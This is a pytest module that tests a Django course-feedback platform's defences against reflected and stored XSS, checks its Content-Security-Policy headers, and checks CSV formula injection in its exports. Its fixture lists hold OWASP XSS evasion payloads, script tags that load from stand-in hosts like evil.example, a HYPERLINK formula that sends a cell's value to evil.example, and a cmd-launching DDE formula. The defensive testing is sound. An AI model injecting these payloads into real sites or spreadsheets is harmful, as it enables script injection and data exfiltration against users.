"""Hostile input does nothing: reflected XSS, the Content-Security-Policy, CSV formula injection (issue 18, 1 and 6).

The fuzz pass sends OWASP XSS filter-evasion strings in every query parameter of every HTML endpoint and
asserts that no HTML response carries one unescaped and that nothing answers 5xx.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse

from classifiers.imports.exports import write_feedback_csv
from courses.csv_safety import safe_cell
from courses.models import Role
from tests.factories import (
    FeedbackFactory,
    LabelFactory,
    MembershipFactory,
    ModuleFactory,
    QuestionFactory,
    SurveyFactory,
    UserFactory,
)
from tests.support import ROOT

pytestmark = pytest.mark.django_db

# OWASP XSS Filter Evasion Cheat Sheet classics.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<BODY ONLOAD=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<a href=\"javascript:alert('XSS')\">x</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<details open ontoggle=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"-alert(1)-\"",
    "';alert(String.fromCharCode(88,83,83))//",
    "<math><mtext></p><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1")
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


class _Scan(HTMLParser):
    """What a browser would run, as parsed (not as text): on* handlers, javascript: URLs, foreign scripts.
    Script *contents* are covered by the raw-payload check (a payload inside a JS string is escaped data)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = re.sub(r"\s", "", value or "").lower()
            if (name.startswith("on") and "alert" in value
                    or name in ("href", "src", "action", "formaction") and value.startswith("javascript:alert")
                    or tag == "script" and name == "src" and re.match(r"(https?:)?//(?!testserver/)", value)):
                self.live.append(f"<{tag} {name}={value}>")


def _live_payloads(page: str) -> list[str]:
    scan = _Scan()
    scan.feed(page)
    return scan.live


def assert_inert(response, payload: str, where: str) -> None:
    """No 5xx; an HTML reply never holds the payload as sent; any other reply cannot be read as HTML."""
    assert response.status_code < 500, f"{where}: {response.status_code}"
    ctype = response.get("Content-Type", "")
    body = _body(response)
    if "html" in ctype:
        if re.search(r"[<>\"']", payload):
            assert payload.encode() not in body, f"{where} echoes {payload!r} unescaped"
        assert _live_payloads(body.decode("utf-8", "replace")) == [], where
    else:
        assert response.get("X-Content-Type-Options") == "nosniff", where


def assert_policy(response) -> dict[str, str]:
    from eduplatform.security import parse_policy

    policy = parse_policy(response.get("Content-Security-Policy", ""))
    assert policy.get("default-src") == "'self'", policy
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    return policy


@pytest.fixture
def staff_client(client, instructor):
    client.force_login(instructor)
    return client


@pytest.fixture
def survey(course):
    survey = SurveyFactory(course=course, is_anonymous=False)
    QuestionFactory(survey=survey)
    return survey


# --- 1. Reflected XSS in the report's 400s -------------------------------------------------------------

@pytest.mark.parametrize(("path", "param"), [
    ("export.csv", "chart"), ("export.csv", "since"), ("export.csv", "until"), ("", "since"), ("", "until"),
])
def test_report_errors_do_not_reflect_script(staff_client, sentiment, path, param):
    payload = "<script src=//evil/x.js></script>"
    response = staff_client.get(f"/reports/CS101/{path}?" + urlencode({param: payload}))
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert f'"{param}"' in response.content.decode()  # still says which parameter was wrong


# --- 2. Content-Security-Policy --------------------------------------------------------------------------

def test_csp_on_report_admin_and_lti_error_pages(client, instructor, superuser, sentiment):
    client.force_login(instructor)
    assert_policy(client.get("/reports/CS101/"))
    client.force_login(superuser)
    assert_policy(client.get("/admin/"))
    assert_policy(client.get("/admin/courses/course/"))
    lti_error = client.get("/lti/login/")
    assert lti_error.status_code == 400 and "html" in lti_error["Content-Type"]
    assert_policy(lti_error)


def test_csp_on_survey_page_keeps_its_frame_ancestors(client, survey, settings):
    settings.SURVEY_FRAME_ANCESTORS = ["'self'", "https://lms.example.edu"]
    response = client.get(f"/surveys/{survey.pk}/")
    policy = assert_policy(response)
    assert policy["frame-ancestors"] == "'self' https://lms.example.edu"


def test_lti_cookie_check_page_runs_only_its_own_hashed_script(client):
    """pylti1p3's cookie-check page is an inline script; the policy allows exactly that script by hash, and
    hostile login parameters stay escaped inside it."""
    from courses.lti.registration import register_platform

    register_platform(name="LMS", issuer="https://lms.example.edu", client_id="tool", auth_url="https://lms.example.edu/auth",
                      token_url="https://lms.example.edu/token", keyset_url="https://lms.example.edu/jwks",
                      deployment_ids=["dep-1"])
    payload = "</script><script>alert(1)</script>"
    response = client.get("/lti/login/?" + urlencode({
        "iss": "https://lms.example.edu", "client_id": "tool", "login_hint": payload,
        "target_link_uri": "http://testserver/lti/launch/", "lti_message_hint": payload}))
    assert response.status_code == 200, response.content[:300]
    scripts = re.findall(rb"<script\b[^>]*>(.*?)</script>", response.content, re.S)
    assert len(scripts) == 1 and payload.encode() not in response.content
    digest = base64.b64encode(hashlib.sha256(scripts[0]).digest()).decode()
    assert f"'sha256-{digest}'" in assert_policy(response)["script-src"]


def test_deep_link_return_form_has_no_inline_script():
    page = (ROOT / "templates/lti/deep_link_return.html").read_text()
    assert 'name="JWT"' in page and "autosubmit.js" in page


def test_templates_hold_no_inline_script_or_event_handlers():
    """Every <script> loads a static file (or is a json_script data block); no on*= attribute anywhere."""
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text, re.I):
            if "src=" not in tag:
                offenders.append(f"{path}: {tag}")
        offenders += [f"{path}: {m}" for m in re.findall(r"<[^>]*\son[a-z]+\s*=", text, re.I)]
        offenders += [f"{path}: javascript: URL" for _ in re.findall(r"javascript:", text, re.I)]
    assert offenders == []


# --- Fuzz pass --------------------------------------------------------------------------------------------

def _admin_changelists() -> list[str]:
    return [reverse(f"admin:{m._meta.app_label}_{m._meta.model_name}_changelist") for m in admin.site._registry]


def _html_endpoints(course, survey, sentiment) -> list[tuple[str, tuple[str, ...], list[str]]]:
    """(path, query parameters it reads, payloads) for every HTML page that takes query parameters."""
    report = (f"/reports/{course.code}/", ("schema", "since", "until"))
    endpoints = [
        report, (report[0] + "export.csv", ("schema", "since", "until", "chart")),
        (f"/surveys/{survey.pk}/", ("invite",)), (f"/surveys/{survey.pk}/thanks/", ("edited", "invite")),
        ("/lti/login/", ("iss", "login_hint", "target_link_uri", "lti_message_hint", "lti_deployment_id",
                         "client_id")),
        ("/lti/launch/", ("state", "id_token")), (f"/lti/course/{course.code}/", ("module",)),
        ("/api/docs/", ("script", "lang")), ("/api/redoc/", ("lang",)), ("/api/schema/", ("format", "lang")),
        (f"/api/courses/{course.code}/feedback/", ("format", "module", "search", "ordering", "page")),
        (reverse("admin:classifiers_annotate", args=[sentiment.pk, course.pk]), ("order", "balance")),
        (reverse("admin:classifiers_adjudicate", args=[sentiment.pk, course.pk]), ("order", "page")),
        (reverse("admin:courses_survey_invitations", args=[survey.pk]), ("count",)),
        (reverse("admin:classifiers_import_upload"), ("course",)),
    ]
    # Changelists share one template: the search box gets every payload, the other parameters a sample.
    endpoints += [(url, ("q",)) for url in _admin_changelists()]
    endpoints += [(url, ("o", "p", "course__id__exact", "_changelist_filters", "e"), PAYLOADS[::4])
                  for url in _admin_changelists()]
    return [(path, params, PAYLOADS) if len(rest) == 0 else (path, params, *rest) for path, params, *rest in endpoints]


def test_fuzz_every_html_endpoint_with_xss_strings(client, superuser, course, survey, sentiment):
    ModuleFactory(course=course, title="Week 1")
    FeedbackFactory(course=course, original_text="fine")
    client.force_login(superuser)
    checked = 0
    for path, params, payloads in _html_endpoints(course, survey, sentiment):
        for param in params:
            for payload in payloads:
                query = {param: payload}
                if path.startswith("/api/courses/") and param != "format":
                    query["format"] = "api"  # the browsable API: HTML
                response = client.get(path + "?" + urlencode(query), HTTP_ACCEPT="text/html")
                assert_inert(response, payload, f"{path}?{param}=")
                checked += 1
    assert checked > 500


def test_stored_titles_and_label_names_are_escaped_on_report_and_admin_pages(client, superuser, course, sentiment):
    """Module titles, survey titles and label names come from staff and imports: every page escapes them."""
    payload = '"><svg/onload=alert(1)>'
    ModuleFactory(course=course, title=payload)
    LabelFactory(schema=sentiment, name=payload, position=99)
    SurveyFactory(course=course, title=payload)
    FeedbackFactory(course=course, original_text=payload)
    client.force_login(superuser)
    for path in (f"/reports/{course.code}/", "/admin/courses/module/", "/admin/courses/survey/",
                 f"/admin/classifiers/labelschema/{sentiment.pk}/change/", "/admin/courses/feedback/",
                 reverse("admin:classifiers_annotate", args=[sentiment.pk, course.pk])):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response, payload, path)


# --- 6. CSV formula injection -----------------------------------------------------------------------------

def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    bad = [cell for row in rows for cell in row if cell.startswith(DANGEROUS_START) and not NUMBER.match(cell)]
    assert bad == []
    return rows


def test_safe_cell_neutralises_text_formulas_and_keeps_numbers():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell("plain") == "plain"


def test_report_csv_neutralises_module_titles(staff_client, course, sentiment):
    for i, title in enumerate(FORMULAS):
        ModuleFactory(course=course, title=title.strip() + f" {i}" if title[0] in "\t\r" else title)
    for chart in ("modules", "trend", "module-trends"):
        response = staff_client.get(f"/reports/CS101/export.csv?chart={chart}")
        assert response.status_code == 200
        rows = assert_no_formula(response.content.decode())
        if chart != "trend":
            assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_feedback_export_and_command_neutralise_text(course, tmp_path):
    module = ModuleFactory(course=course, title="@SUM(1+1)")
    for i, text in enumerate(FORMULAS):
        FeedbackFactory(course=course, module=module, original_text=text, redacted_text=text,
                        external_id=f"=1+{i}")
    out = io.StringIO()
    assert write_feedback_csv(course, out) == len(FORMULAS)
    rows = assert_no_formula(out.getvalue())
    assert {row[4] for row in rows[1:]} == {"'" + t for t in FORMULAS}
    target = tmp_path / "export.csv"
    call_command("export_feedback", course.code, str(target), stdout=io.StringIO())
    assert_no_formula(target.read_text())


def test_invitation_csv_neutralises_recipients(client, course):
    instructor = MembershipFactory(course=course, role=Role.INSTRUCTOR, user=UserFactory(username="ines")).user
    survey = SurveyFactory(course=course, is_anonymous=False)
    client.force_login(instructor)
    response = client.post(reverse("admin:courses_survey_invitations", args=[survey.pk]),
                           {"recipients": "\n".join(FORMULAS[:4]), "count": 0})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = assert_no_formula(response.content.decode())
    assert len(rows) == 5
